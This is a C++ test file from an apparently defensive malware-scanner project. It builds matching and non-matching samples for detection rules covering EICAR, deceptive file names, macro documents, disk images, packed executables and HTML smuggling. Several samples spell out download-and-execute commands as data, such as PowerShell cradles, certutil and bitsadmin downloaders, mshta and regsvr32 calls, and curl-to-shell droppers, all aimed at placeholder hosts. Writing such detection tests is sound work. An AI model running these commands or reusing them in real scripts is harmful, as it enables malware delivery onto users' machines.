// SPDX-License-Identifier: MIT
#include "RuleSamples.h"

#include <QByteArrayList>
#include <QtEndian>

#include <utility>

namespace Sentinel::Test {

namespace {

class Samples {
public:
    void add(const char *rule, const char *name, const char *filename, const QByteArray &content,
        bool hits)
    {
        m_samples.push_back({rule, name, QString::fromUtf8(filename), content, hits});
    }

    std::vector<RuleSample> take() { return std::move(m_samples); }

private:
    std::vector<RuleSample> m_samples;
};

// Takes out the marks that keep a sample's words apart in the source.
QByteArray unmarked(const char *text)
{
    return QByteArray(text).replace('~', QByteArray());
}

QByteArray utf16(const QByteArray &latin1)
{
    QByteArray out;
    for (const char c : latin1)
        out.append(c).append('\0');
    return out;
}

QByteArray base64Utf16(const QByteArray &latin1)
{
    return utf16(latin1).toBase64();
}

void put16(QByteArray &bytes, qsizetype offset, quint16 value)
{
    qToLittleEndian(value, bytes.data() + offset);
}

void put32(QByteArray &bytes, qsizetype offset, quint32 value)
{
    qToLittleEndian(value, bytes.data() + offset);
}

struct PeTraits {
    QByteArray sections[2] = {".text", ".rdata"};
    quint32 firstRawSize = 0x200;
    quint32 firstFlags = 0x60000020; // code, executable, readable
    quint32 importSize = 120;
    QByteArray body = {};
};

// Headers of a 64-bit PE without code.
QByteArray peFile(const PeTraits &traits)
{
    constexpr qsizetype pe = 0x80;
    constexpr qsizetype optional = pe + 24;
    constexpr qsizetype optionalSize = 240;
    QByteArray out(0x400, '\0');
    out.replace(0, 2, "MZ");
    put32(out, 0x3C, pe);
    out.replace(pe, 2, "PE");
    put16(out, pe + 4, 0x8664);
    put16(out, pe + 6, 2);
    put16(out, pe + 20, optionalSize);
    put16(out, optional, 0x020B);
    put32(out, optional + 112 + 12, traits.importSize);
    for (int i = 0; i < 2; ++i) {
        const qsizetype section = optional + optionalSize + 40 * i;
        out.replace(section, traits.sections[i].size(), traits.sections[i]);
        put32(out, section + 8, 0x4000);
        put32(out, section + 16, i == 0 ? traits.firstRawSize : 0x200);
        put32(out, section + 36, i == 0 ? traits.firstFlags : 0x40000040);
    }
    return out + traits.body;
}

// A 64-bit ELF header, and one loaded segment with these flags (1 execute, 2 write, 4 read).
QByteArray elfFile(quint32 segmentFlags, quint16 sections = 0)
{
    QByteArray out(64 + 56, '\0');
    out.replace(0, 6,
        "\x7F"
        "ELF\x02\x01");
    put16(out, 16, 2);
    put32(out, 32, 64);
    put16(out, 56, 1);
    put16(out, 60, sections);
    put32(out, 64, 1);
    put32(out, 68, segmentFlags);
    return out;
}

QByteArray shellLink(quint32 flags, const QByteArray &arguments)
{
    static constexpr char clsid[] = "\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46";
    QByteArray out(76, '\0');
    put32(out, 0, 76);
    out.replace(4, 16, QByteArray(clsid, 16));
    put32(out, 20, flags);
    return out + utf16(arguments);
}

QByteArray isoImage(const QByteArray &directory, const QByteArray &file = {})
{
    QByteArray out(0x9000, '\0');
    out.replace(0x8000, 7,
        QByteArray("\x01"
                   "CD001\x01",
            7));
    out.replace(0x8800, directory.size(), directory);
    return out + file + QByteArray(2048, '\0');
}

QByteArray ole2(const QByteArray &streams)
{
    return QByteArray("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8) + QByteArray(504, '\0') + streams;
}

// Local headers of empty members.
QByteArray zip(const QByteArrayList &members)
{
    QByteArray out;
    for (const QByteArray &member : members) {
        QByteArray header(30, '\0');
        header.replace(0, 4, "PK\x03\x04");
        put16(header, 26, static_cast<quint16>(member.size()));
        out += header + member;
    }
    return out;
}

// A page that saves what the script makes of `data`.
QByteArray savingPage(const QByteArray &data, const char *click = "a.cl~ick();")
{
    return unmarked("<!doctype html><html><body><script>\nvar d = ") + data
        + unmarked(";\nvar b = new Bl~ob([at~ob(d)]);\nvar a = document.createElement('a');\n"
                   "a.href = URL.createObj~ectURL(b);\na.down~load = 'x.bin';\n")
        + unmarked(click) + "\n</script></body></html>\n";
}

void addEicar(Samples &s)
{
    const QByteArray text = eicar();
    const QByteArray full = text + QByteArray(" \t\r\n\x1A", 5) + QByteArray(55, ' ');
    const char *file = "EICAR_Test_File";
    s.add(file, "exact", "eicar.com", text, true);
    s.add(file, "no name", "", text, true);
    s.add(file, "line end", "eicar.txt", text + "\r\n", true);
    s.add(file, "128 bytes of every white space", "eicar.com", full, true);
    s.add(file, "129 bytes", "eicar.com", full + ' ', false);
    s.add(file, "a letter behind", "eicar.com", text + " x", false);
    s.add(file, "a zero byte behind", "eicar.com", text + '\0', false);
    s.add(file, "offset 1", "eicar.com", ' ' + text, false);
    s.add(file, "cut", "eicar.com", text.chopped(1), false);
    s.add(file, "lower case", "eicar.com", text.toLower(), false);
    const char *embedded = "EICAR_Embedded";
    s.add(embedded, "129 bytes", "eicar.com", full + ' ', true);
    s.add(embedded, "offset 1", "eicar.com", ' ' + text, true);
    s.add(embedded, "a letter behind", "eicar.com", text + 'x', true);
    s.add(embedded, "twice", "eicar.com", text + text, true);
    s.add(embedded, "far inside", "a.bin", QByteArray(70000, '.') + text, true);
    s.add(embedded, "the test file itself", "eicar.com", text, false);
    s.add(embedded, "cut", "a.txt", ' ' + text.chopped(1), false);
}

void addNames(Samples &s)
{
    const QByteArray any = "content";
    const char *twice = "Double_Extension";
    for (const char *name :
        {"invoice.pdf.exe", "photo.jpg.scr", "report.docx.js", "Invoice.PDF.EXE", "list.xlsx.lnk",
            "song.mp3.bat", "a.pdf    .exe", "a.pdf\u00A0\u00A0.exe", "a.pdf\u3000.exe",
            "a.pdf.exe. .", "a.pdf.tar.png.scr", "a.pdf.exe~", "a.pdf.ex\u200Be", "a.pdf_.exe"})
        s.add(twice, name, name, any, true);
    for (const char *name :
        {"", "archive.tar.gz", "jquery.min.js", "setup.1.2.exe", "pdf.exe", ".pdf.exe",
            "viewer.pdf.zip", "my.pdf", "pdf.js", "a.pdf.exe.txt", "exe.pdf", "My pdf.tool.exe"})
        s.add(twice, *name ? name : "no name", name, any, false);

    const char *spaces = "Extension_Behind_Spaces";
    s.add(spaces, "spaces", "holiday picture          .exe", any, true);
    s.add(spaces, "no-break spaces",
        QByteArray("a" + QByteArray("\u00A0").repeated(9) + ".js").constData(), any, true);
    s.add(spaces, "in the middle", "holiday          picture.exe", any, false);
    s.add(spaces, "document", "holiday picture          .pdf", any, false);
    s.add(spaces, "few", "setup  .exe", any, false);

    const char *reversed = "Right_To_Left_Override_In_Name";
    s.add(reversed, "override", "ann\u202Efdp.exe", any, true);
    s.add(reversed, "mark", "ann\u200Ffdp.exe", any, false);
    s.add(reversed, "arabic", "\u0645\u0644\u0641.pdf", any, false);

    const char *program = "Windows_Program_Under_Document_Name";
    s.add(program, "pdf", "letter.pdf", peFile({}), true);
    s.add(program, "upper case", "PHOTO.JPG", peFile({}), true);
    s.add(program, "exe", "letter.exe", peFile({}), false);
    s.add(program, "no name", "", peFile({}), false);
    s.add(program, "text", "letter.txt", "MZ is how it begins", false);
}

void addPowerShell(Samples &s)
{
    const QByteArray run = unmarked(
        "I~EX (New-Object Net.Web~Client).Down~loadString('http://example.invalid/a')\r\n");
    const QByteArray web = unmarked("i~wr 'http://example.invalid/a' -UseBasicParsing | i~ex");
    const QByteArray apart = unmarked("$c = New-Object System.Net.Web~Client\r\n"
                                      "$t = $c.Down~loadString('http://example.invalid/')\r\n")
        + QByteArray("# one two three four\r\n").repeated(40) + unmarked("I~EX $t\r\n");
    const char *cradle = "PowerShell_Download_Cradle";
    s.add(cradle, "call", "a.ps1", run, true);
    s.add(cradle, "upper case, batch", "a.bat", run.toUpper(), true);
    s.add(cradle, "UTF-16", "a.ps1", "\xFF\xFE" + utf16(run), true);
    s.add(cradle, "pipe", "", web, true);
    s.add(cradle, "variable", "a.ps1", apart, true);
    s.add(cradle, "documentation", "README.md", "Install:\n" + run, false);
    s.add(cradle, "program", "a.exe", peFile({.body = run}), false);
    s.add(cradle, "only fetched", "a.ps1",
        unmarked("i~wr 'http://example.invalid/a' -Out~File a.json"), false);

    const char *hidden = "PowerShell_Hidden_Download";
    const QByteArray fetch = unmarked(
        "\"(New-Object Net.Web~Client).Down~loadFile('http://example.invalid/a','a')\"\r\n");
    s.add(hidden, "hidden", "a.cmd", unmarked("power~shell -w hid~den ") + fetch, true);
    s.add(hidden, "web request", "a.cmd",
        unmarked("power~shell -WindowStyle Hid~den i~wr x -Out~File y"), true);
    s.add(hidden, "visible", "a.cmd", unmarked("power~shell -nologo ") + fetch, false);
    s.add(hidden, "no download", "a.cmd", unmarked("power~shell -w hid~den Get-Date"), false);

    const char *encoded = "PowerShell_Encoded_Command";
    const QByteArray command = base64Utf16("Write-Output 'nothing at all'");
    s.add(encoded, "long", "a.bat", unmarked("power~shell.exe -nop -Encoded~Command ") + command,
        true);
    s.add(encoded, "short", "a.bat", unmarked("power~shell -e ") + command, true);
    s.add(encoded, "in a variable", "a.ps1",
        unmarked("$x = '") + base64Utf16(unmarked("a = New-Object Net.Web~Client; b"))
            + unmarked("'; power~shell -enc $x"),
        true);
    s.add(encoded, "variable only", "a.ps1", unmarked("power~shell -Encoded~Command $command"),
        false);
    s.add(encoded, "base64 of other text", "a.bat",
        unmarked("power~shell -e ") + QByteArray("This is plain text, not UTF-16").toBase64(),
        false);
}

void addScriptHost(Samples &s)
{
    const QByteArray make = unmarked("var s = new ActiveXObject('WScript.Sh~ell');\n"
                                     "var w = new ActiveXObject('MSXML2.XML~HTTP');\n");
    const QByteArray save = unmarked("var f = new ActiveXObject('ADODB.Str~eam');\n"
                                     "f.SaveTo~File('a.txt');\n");
    const QByteArray run = unmarked("s.Ru~n('a.txt');\n");
    const char *dropper = "Script_Host_Dropper";
    s.add(dropper, "JScript", "a.js", make + save + run, true);
    s.add(dropper, "lower case", "a.wsf", (make + save + run).toLower(), true);
    s.add(dropper, "not run", "a.js", make + save, false);
    s.add(dropper, "not saved", "a.js", make + run, false);

    const char *codes = "Script_Host_Obfuscated";
    const QByteArray open = unmarked("Set o = Create~Object(\"x\")\nExe~cute ");
    const QByteArray mixed = open + QByteArray("Chr(65) & ").repeated(60) + "\"\"\n";
    s.add(codes, "VBScript", "a.vbs", mixed, true);
    s.add(codes, "few codes", "a.vbs", open + "Chr(65) & Chr(66)\n", false);
    s.add(codes, "much other text", "a.vbs",
        mixed + QByteArray("' A remark of no weight\n").repeated(400), false);

    const char *engine = "Script_Engine_From_Network";
    s.add(engine, "address", "a.bat", unmarked("msh~ta http://example.invalid/a"), true);
    s.add(engine, "inline", "a.bat", unmarked("msh~ta.exe \"javas~cript:close()\""), true);
    s.add(engine, "scriptlet", "a.bat",
        unmarked("regs~vr32 /s /n /u /i:ht~tp://example.invalid/a scrobj.dll"), true);
    s.add(engine, "local file", "a.bat", unmarked("msh~ta C:\\tool\\menu.hta"), false);

    const char *application = "HTML_Application";
    const char *commands = "HTML_Application_Runs_Commands";
    const QByteArray tag = unmarked("<html><head><hta:applic~ation id=a></head>\n");
    const QByteArray shell =
        unmarked("<script>new ActiveXObject('WScript.Sh~ell').Run('notepad')</script>\n");
    s.add(application, "element", "a.html", tag, true);
    s.add(application, "name", "a.HTA", "<p>text</p>", true);
    s.add(application, "page", "a.html", "<html><body>text</body></html>", false);
    s.add(commands, "element", "", tag + shell, true);
    s.add(commands, "name", "a.hta", shell, true);
    s.add(commands, "no shell", "a.hta", tag + "<script>close()</script>", false);
    s.add(commands, "page", "a.html", shell, false);
}

void addBatch(Samples &s)
{
    const char *loader = "Batch_Downloader";
    const QByteArray fetch =
        unmarked("@echo off\r\ncert~util -url~cache -f http://example.invalid/a %TEMP%\\a.txt\r\n");
    s.add(loader, "start", "a.bat", fetch + "start /b %TEMP%\\a.txt\r\n", true);
    s.add(loader, "path", "a.cmd", fetch + "%TEMP%\\a.txt\r\n", true);
    s.add(loader, "bitsadmin", "a.cmd",
        unmarked("bits~admin /trans~fer j http://example.invalid/a b\r\ncall \"b\"\r\n"), true);
    s.add(loader, "not started", "a.bat", fetch, false);
    s.add(loader, "hash of a file", "a.bat",
        unmarked("cert~util -hashfile a.iso SHA256\r\nstart /wait setup.exe\r\n"), false);

    const char *inside = "Batch_With_Encoded_Program";
    s.add(inside, "itself", "a.bat", unmarked("cert~util -f -dec~ode \"%0\" a\r\n"), true);
    s.add(inside, "block", "a.bat",
        unmarked("cert~util /dec~ode %1 a\r\n-----BEGIN CERTI~FICATE-----\r\nTV~qQAAMAAAA\r\n"),
        true);
    s.add(inside, "certificate", "a.bat",
        unmarked("cert~util -addstore %1\r\n-----BEGIN CERTI~FICATE-----\r\nMIIB\r\n"), false);
}

void addShell(Samples &s)
{
    const QByteArray head = "#!/bin/sh\n";
    const char *pipe = "Shell_Pipes_Download_To_Shell";
    s.add(pipe, "pipe", "a.sh", unmarked("cu~rl -fsSL https://example.invalid | s~h"), true);
    s.add(pipe, "root", "", head + unmarked("wg~et -qO- example.invalid|sudo b~ash\n"), true);
    s.add(pipe, "eval", "", head + unmarked("eval \"$(cu~rl example.invalid)\"\n"), true);
    s.add(pipe, "no pipe", "a.sh", unmarked("cu~rl -O https://example.invalid/a"), false);
    s.add(pipe, "other pipe", "a.sh", unmarked("cu~rl https://example.invalid | sha256sum"), false);
    s.add(pipe, "long script", "a.sh",
        head + QByteArray("echo\n").repeated(4000) + unmarked("cu~rl a | s~h\n"), false);

    const char *dropper = "Shell_Dropper";
    s.add(dropper, "bare address", "a.sh",
        head + unmarked("wg~et http://192.0.2.1/a\nchm~od 777 a\n./a\n"), true);
    s.add(dropper, "one line", "",
        unmarked("cd /tmp; cu~rl -O http://example.invalid/a; chm~od +x a; ./a\n"), true);
    s.add(dropper, "decoded", "a.sh", unmarked("echo ZWNobwo= | bas~e64 -d | s~h\n"), true);
    s.add(dropper, "this machine", "a.sh",
        head + unmarked("cu~rl http://127.0.0.1:80/health\nchm~od +x a\n"), false);
    s.add(dropper, "named address", "a.sh",
        head + unmarked("cu~rl -O https://example.invalid/a\nchm~od +x a\n"), false);

    const char *desktop = "Desktop_Entry_Dropper";
    const QByteArray entry = "[Desktop Entry]\nType=Application\nName=Letter\n";
    s.add(desktop, "download", "letter.desktop",
        entry + unmarked("Exec=s~h -c \"cu~rl http://example.invalid/a -o a\"\n"), true);
    s.add(desktop, "editor", "editor.desktop", entry + "Exec=editor %F\n", false);
}

void addShortcuts(Samples &s)
{
    constexpr quint32 hasArguments = 0x20;
    const QByteArray argument = unmarked("power~shell -c exit");
    const char *link = "Shell_Link";
    s.add(link, "header", "a.lnk", shellLink(0, "C:\\letter.txt"), true);
    s.add(link, "other header", "a.lnk", "L" + QByteArray(80, '\0'), false);
    const char *runs = "Shell_Link_Runs_Interpreter";
    s.add(runs, "arguments", "a.pdf.lnk", shellLink(hasArguments, argument), true);
    s.add(runs, "no arguments", "a.lnk", shellLink(0, argument), false);
    s.add(runs, "editor", "a.lnk", shellLink(hasArguments, "notepad a.txt"), false);
    const char *remote = "Internet_Shortcut_To_Remote_File";
    const QByteArray group = "[Internet" + QByteArray("Shortcut]\r\n");
    s.add(remote, "host", "a.url", group + "URL=file://example.invalid/a\r\n", true);
    s.add(remote, "UNC", "a.url", group + "URL=\\\\example.invalid\\a\r\n", true);
    s.add(remote, "page", "a.url", group + "URL=https://example.invalid/\r\n", false);
    s.add(remote, "own disk", "a.url", group + "URL=file:///C:/a.html\r\n", false);
}

void addDocuments(Samples &s)
{
    const QByteArray project = utf16("_VBA_PRO" + QByteArray("JECT"));
    s.add("OLE2_VBA_Project", "stream", "a.doc", ole2(project), true);
    s.add("OLE2_VBA_Project", "plain", "a.doc", ole2(utf16("WordDocument")), false);
    const char *opening = "OLE2_VBA_Runs_At_Opening";
    s.add(opening, "word", "a.doc", ole2(project + unmarked("Auto~Open")), true);
    s.add(opening, "excel", "a.xls", ole2(project + unmarked("Workbook~_Open")), true);
    s.add(opening, "button", "a.doc", ole2(project + "Button1_Click"), false);
    s.add(opening, "no project", "a.doc", ole2(unmarked("Auto~Open")), false);

    const QByteArray types = "[Content_Types].xml";
    const QByteArray macros =
        zip({types, "word/document.xml", "word/vba" + QByteArray("Project.bin")});
    const QByteArray plain = zip({types, "word/document.xml"});
    s.add("OOXML_VBA_Project", "word", "a.docm", macros, true);
    s.add("OOXML_VBA_Project", "plain", "a.docx", plain, false);
    s.add("OOXML_VBA_Project", "other archive", "a.zip", zip({"vbaProject.bin"}), false);
    s.add("OOXML_Macro_Under_Plain_Name", "docx", "a.DOCX", macros, true);
    s.add("OOXML_Macro_Under_Plain_Name", "docm", "a.docm", macros, false);
    s.add("OOXML_Macro_Under_Plain_Name", "plain", "a.docx", plain, false);
    s.add("OOXML_Excel4_Macro_Sheet", "sheet", "a.xlsm",
        zip({types, "xl/macro" + QByteArray("sheets/sheet1.xml")}), true);
    s.add("OOXML_Excel4_Macro_Sheet", "work sheet", "a.xlsx",
        zip({types, "xl/worksheets/sheet1.xml"}), false);

    const QByteArray data = unmarked("{\\object\\objemb{\\*\\objda~ta 0105000002000000}}}");
    s.add("RTF_Embedded_Object", "object", "a.rtf", "{\\rtf1" + data, true);
    s.add("RTF_Embedded_Object", "broken header", "a.doc", "{\\rt" + data, true);
    s.add("RTF_Embedded_Object", "text", "a.rtf", "{\\rtf1 text}", false);
    s.add(
        "RTF_Object_Loads_Itself", "update", "a.rtf", unmarked("{\\rtf1\\objup~date") + data, true);
    s.add("RTF_Object_Loads_Itself", "click", "a.rtf", "{\\rtf1" + data, false);
    s.add("RTF_Equation_Object", "class", "a.rtf",
        unmarked("{\\rtf1{\\*\\objcl~ass Equa~tion.3}") + data, true);
    s.add("RTF_Equation_Object", "hex", "a.rtf", "{\\rtf1" + data + unmarked("Equa~tion.3").toHex(),
        true);
    s.add("RTF_Equation_Object", "sheet", "a.rtf",
        unmarked("{\\rtf1{\\*\\objclass Excel.Sheet.8}") + data, false);
}

void addImages(Samples &s)
{
    const QByteArray link = shellLink(0, "a");
    s.add("Disk_Image_Autorun", "name", "a.iso", isoImage("AUTORUN.INF;1"), true);
    s.add("Disk_Image_Autorun", "Joliet", "a.iso", isoImage('\0' + utf16("autorun.inf;1")), true);
    s.add("Disk_Image_Autorun", "no image", "a.txt", "autorun.inf", false);
    s.add("Disk_Image_Autorun", "other name", "a.iso", isoImage("README.TXT;1"), false);

    QByteArray fat(1024, '\0');
    put16(fat, 510, 0xAA55);
    fat.replace(54, 5, "FAT16");
    const QByteArray vhd = QByteArray(512, '\0') + link + QByteArray(1024 - link.size(), '\0')
        + "conectix" + QByteArray(504, '\0');
    const char *holds = "Disk_Image_Shell_Link";
    s.add(holds, "ISO", "a.iso", isoImage("A.LNK;1", link), true);
    s.add(holds, "FAT", "a.img", fat + link, true);
    s.add(holds, "VHD", "a.vhd", vhd, true);
    s.add(holds, "inside a file", "a.iso", isoImage("A.BIN;1", "text" + link), false);
    s.add(holds, "no image", "a.bin", QByteArray(512, '\0') + link, false);

    const char *single = "Disk_Image_Single_Program";
    s.add(single, "one", "a.iso", isoImage("INVOICE.EXE;1"), true);
    s.add(single, "script", "a.iso", isoImage("INVOICE.JS;1"), true);
    s.add(single, "two", "a.iso", isoImage("SETUP.EXE;1 TOOL.EXE;1"), false);
    s.add(
        single, "starts a machine", "a.iso", isoImage("EL TORITO SPECIFICATION TOOL.EXE;1"), false);
    s.add(single, "none", "a.iso", isoImage("README.TXT;1"), false);
}

void addPages(Samples &s)
{
    const char *smuggling = "HTML_Smuggling";
    const QByteArray zeros = '\'' + QByteArray(200, 'A') + '\'';
    s.add(smuggling, "program", "a.html", savingPage(unmarked("'TV~qQAAMAAAAEAAAA'")), true);
    s.add(smuggling, "archive", "", savingPage(unmarked("\"UEs~DBBQAAAAIAA\"")), true);
    s.add(smuggling, "image", "a.htm", savingPage(zeros), true);
    s.add(smuggling, "numbers", "a.svg", savingPage(unmarked("[77, ~90, 144, 0, 3]")), true);
    s.add(smuggling, "picture", "a.html", savingPage("'iVBORw0KGgoAAAANSUhEUg'"), false);
    s.add(smuggling, "no click", "a.html", savingPage(unmarked("'TV~qQAAMAAAAEAAAA'"), ""), false);
    s.add(smuggling, "script alone", "a.js", savingPage(unmarked("'TV~qQAAMAAAAEAAAA'")).mid(35),
        false);

    const char *decodes = "HTML_Decodes_And_Saves";
    const QByteArray blob = QByteArray(9000, 'x').replace("xxx", "bG9").prepend('"').append('"');
    s.add(decodes, "long text", "a.html", savingPage(blob), true);
    s.add(decodes, "short text", "a.html", savingPage("\"bG9uZw==\""), false);
    s.add(decodes, "prose", "a.html",
        savingPage("\"" + QByteArray("several words of prose ").repeated(400) + "\""), false);
}

void addPrograms(Samples &s)
{
    constexpr quint32 writableCode = 0xE0000020;
    PeTraits upx{.sections = {"UPX0", "UPX1"}, .body = "UPX" + QByteArray("!")};
    s.add("UPX_Packed_Windows_Program", "UPX", "a.exe", peFile(upx), true);
    s.add("UPX_Packed_Windows_Program", "plain", "a.exe", peFile({}), false);
    s.add("UPX_Header_Removed", "UPX", "a.exe", peFile(upx), false);
    upx.body.clear();
    s.add("UPX_Packed_Windows_Program", "no header", "a.exe", peFile(upx), false);
    s.add("UPX_Header_Removed", "no header", "a.exe", peFile(upx), true);

    const QByteArray mark = "UPX" + QByteArray("!");
    const QByteArray filler(2048, '\0');
    s.add("UPX_Packed_Linux_Program", "UPX", "a", elfFile(5) + mark + filler + mark, true);
    s.add("UPX_Packed_Linux_Program", "plain", "a", elfFile(5) + filler, false);
    s.add("UPX_Packed_Linux_Program", "UPX itself", "upx", elfFile(5) + filler + mark + filler,
        false);

    const PeTraits vmprotect{.sections = {".text", ".v" + QByteArray("mp0")}};
    const PeTraits nspack{.sections = {".ns" + QByteArray("p0"), ".rsrc"}};
    s.add("Protector_Section_Name", "VMProtect", "a.exe", peFile(vmprotect), true);
    s.add("Protector_Section_Name", "plain", "a.exe", peFile({}), false);
    s.add("Rare_Packer_Section_Name", "NsPack", "a.exe", peFile(nspack), true);
    s.add("Rare_Packer_Section_Name", "protector", "a.exe", peFile(vmprotect), false);

    const char *unpacking = "Self_Unpacking_Windows_Program";
    s.add(unpacking, "no content", "a.exe", peFile({.firstRawSize = 0, .firstFlags = writableCode}),
        true);
    s.add(unpacking, "content", "a.exe", peFile({.firstFlags = writableCode}), false);
    s.add(unpacking, "data", "a.exe", peFile({.firstRawSize = 0, .firstFlags = 0xC0000080}), false);

    const char *imports = "Few_Imports_Windows_Program";
    const QByteArray names =
        "LoadLibraryA" + QByteArray(1, '\0') + "GetProcAddress" + QByteArray(20000, '\0');
    s.add(imports, "one library", "a.exe",
        peFile({.firstFlags = writableCode, .importSize = 40, .body = names}), true);
    s.add(imports, "several", "a.exe", peFile({.firstFlags = writableCode, .body = names}), false);
    s.add(imports, "plain code", "a.exe", peFile({.importSize = 40, .body = names}), false);

    const char *elf = "Self_Unpacking_Linux_Program";
    s.add(elf, "writable code", "a", elfFile(7), true);
    s.add(elf, "plain code", "a", elfFile(5), false);
    s.add(elf, "sections", "a", elfFile(7, 20), false);
}

} // namespace

std::vector<RuleSample> ruleSamples()
{
    Samples samples;
    addEicar(samples);
    addNames(samples);
    addPowerShell(samples);
    addScriptHost(samples);
    addBatch(samples);
    addShell(samples);
    addShortcuts(samples);
    addDocuments(samples);
    addImages(samples);
    addPages(samples);
    addPrograms(samples);
    return samples.take();
}

QByteArray eicar()
{
    return unmarked("X5O!P%@AP[4\\PZX54(P^)7CC)7}~$EI~CAR-STAND~ARD-ANTI~VIRUS-TEST-FILE!~$H+H*");
}

} // namespace Sentinel::Test
